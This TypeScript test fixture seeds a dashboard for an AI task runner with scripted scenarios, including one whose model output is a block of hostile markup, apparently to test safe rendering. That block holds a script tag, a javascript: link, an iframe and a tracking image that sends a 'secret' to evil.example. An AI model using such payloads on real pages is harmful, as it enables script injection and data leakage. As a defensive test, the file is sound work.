import { addTool } from '../harness/add-tool.ts';
import { createGate } from '../harness/gate.ts';
import type { Dashboard } from '../harness/open-dashboard.ts';
import { call, say, type ScriptedEngine, text } from '../harness/scripted-engine.ts';
import { readFile } from 'node:fs/promises';
import { fixture } from '../flows/operator.ts';

const HOSTILE = `<script>alert(1)</script>

[run me](javascript:alert(1)) and [out](https://evil.example/out)

![pixel](https://evil.example/pixel.png?secret=2)

<iframe src="https://evil.example"></iframe>
`;

export async function createFurtherTasks(dashboard: Dashboard, engine: ScriptedEngine): Promise<void> {
  const { client, page } = dashboard;
  const gate = createGate();
  engine.on('Read everything there is', text('Read the first of nine files. ', gate));
  const stream = await page.stream({ taskId: 'tsk_aborted', input: 'Read everything there is' });
  await gate.reached;
  await client.abort('tsk_aborted');
  await stream.rest();

  engine.on(
    'Add them all up',
    text('Two of them by now.'),
    call(addTool, { a: 1, b: 2 }),
    call(addTool, { a: 3, b: 4 }),
  );
  await page.run({ taskId: 'tsk_capped', input: 'Add them all up', budget: 'low' });

  await page.run({ taskId: 'tsk_archived', input: 'What is 12 * 12?' });
  await client.archive('tsk_archived');

  engine.on(
    'Quote the page as it is',
    say({ type: 'source-url', sourceId: '1', url: 'https://evil.example/page', title: '<b>A page</b>' }),
    text(`${HOSTILE}\nSee [1].`),
  );
  await page.run({ taskId: 'tsk_hostile', input: 'Quote the page as it is' });

  const homes = new File([await readFile(fixture('homes.csv'))], 'homes.csv', { type: 'text/csv' });
  const notes = new File([await readFile(fixture('field-notes.md'))], 'field-notes.md', { type: 'text/markdown' });
  await page.upload({ taskId: 'tsk_long', input: 'Average price by city' }, [homes]);
  await page.upload({ taskId: 'tsk_long', input: 'Summarise field-notes.md and cite the lines' }, [notes]);
  await page.run({ taskId: 'tsk_long', input: 'Median area_m2 by city in homes.csv' });
}
